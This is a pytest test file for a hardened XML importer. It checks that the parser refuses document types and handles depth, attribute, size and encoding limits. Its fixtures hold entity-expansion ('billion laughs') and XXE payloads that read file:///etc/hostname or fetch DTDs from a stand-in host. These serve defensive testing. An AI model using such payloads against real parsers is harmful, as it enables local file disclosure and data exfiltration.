"""XML is read as a plain tree with lines, or refused before any entity is looked at."""

from __future__ import annotations

from pathlib import Path

import pytest

from valuechain.errors import ImporterError, Problem
from valuechain.importers.safe_xml import (
    MAX_ATTRIBUTES,
    MAX_DEPTH,
    load_xml,
    parse_xml,
    root_of,
)

LAUGHS = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'


def refusal(raw: bytes) -> Problem:
    with pytest.raises(ImporterError) as refused:
        parse_xml(raw, "a.xml")
    (problem,) = refused.value.problems
    return problem


def test_an_element_knows_its_name_attributes_text_children_and_line() -> None:
    root = parse_xml(b'<a>\n <b x="1">one &amp; <c/>two</b>\n <b/>\n</a>', "a.xml")
    first, second = root.all("b")
    assert (root.tag, root.line, first.line, second.line) == ("a", 1, 2, 3)
    assert first.attributes == {"x": "1"}
    assert first.text == "one & two"
    assert [element.tag for element in root.walk()] == ["a", "b", "c", "b"]
    assert root.first("nothing") is None


def test_prefixes_do_not_change_names() -> None:
    plain = parse_xml(b'<g xmlns="urn:x"><n id="1"/></g>', "a.xml")
    fixed = parse_xml(b'<p:g xmlns:p="urn:x"><p:n id="1"/></p:g>', "a.xml")
    for root in (plain, fixed):
        assert (root.tag, root.namespace) == ("g", "urn:x")
        assert root.children[0].attributes == {"id": "1"}


def test_attributes_of_other_namespaces_keep_their_address() -> None:
    root = parse_xml(b'<a xmlns:r="urn:r" r:about="x" about="y"/>', "a.xml")
    assert root.attributes == {"{urn:r}about": "x", "about": "y"}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "ascii", "iso-8859-1"])
def test_a_document_type_is_refused_whatever_the_encoding(encoding: str) -> None:
    raw = f'<?xml version="1.0" encoding="{encoding}"?>{LAUGHS}'.encode(encoding)
    assert refusal(raw).code == "VC110"


@pytest.mark.parametrize(
    "declared",
    [
        "<!DOCTYPE a>",
        '<!DOCTYPE a SYSTEM "http://collector.invalid/a.dtd">',
        '<!DOCTYPE a [<!ENTITY file SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://collector.invalid/p"> %p;]>',
    ],
)
def test_no_document_type_is_harmless(declared: str) -> None:
    problem = refusal(f"<!-- first -->\n{declared}<a>&file;</a>".encode())
    assert (problem.code, problem.row) == ("VC110", 2)


def test_an_entity_nobody_declared_is_malformed() -> None:
    assert refusal(b"<a>&b;</a>").code == "VC111"


def test_malformed_documents_are_refused_with_line_and_column() -> None:
    problem = refusal(b"<a>\n  <b></c>\n</a>")
    assert (problem.code, problem.row, problem.column) == ("VC111", 2, "8")


def test_sixty_four_levels_are_read_and_sixty_five_refused() -> None:
    parse_xml(b"<a>" * MAX_DEPTH + b"</a>" * MAX_DEPTH, "a.xml")
    problem = refusal(b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1))
    assert (problem.code, problem.variant) == ("VC111", "deep")


def test_256_attributes_are_read_and_257_refused() -> None:
    def element(count: int) -> bytes:
        return ("<a " + " ".join(f"x{n}='1'" for n in range(count)) + "/>").encode()

    assert len(parse_xml(element(MAX_ATTRIBUTES), "a.xml").attributes) == MAX_ATTRIBUTES
    assert refusal(element(MAX_ATTRIBUTES + 1)).variant == "attributes"


def test_an_unknown_encoding_is_refused() -> None:
    code = refusal(b'<?xml version="1.0" encoding="klingon"?><a/>').code
    assert code in {"VC111", "VC113"}


def test_the_root_is_read_from_the_beginning_alone() -> None:
    assert root_of(b'<graphml edge="1"><node><never closed', "a.xml").tag == "graphml"
    with pytest.raises(ImporterError, match="VC110"):
        root_of(LAUGHS.encode(), "a.xml")


def test_limits_of_size_hold_on_both_sides(tmp_path: Path) -> None:
    path = tmp_path / "a.xml"
    path.write_bytes(b"<a>12</a>")
    assert load_xml(path, max_size=9).text == "12"
    with pytest.raises(ImporterError, match="VC104"):
        load_xml(path, max_size=8)


@pytest.mark.parametrize(("content", "code"), [(b"", "VC102"), (b"\n ", "VC102")])
def test_blank_files_are_empty(tmp_path: Path, content: bytes, code: str) -> None:
    path = tmp_path / "a.xml"
    path.write_bytes(content)
    with pytest.raises(ImporterError, match=code):
        load_xml(path)
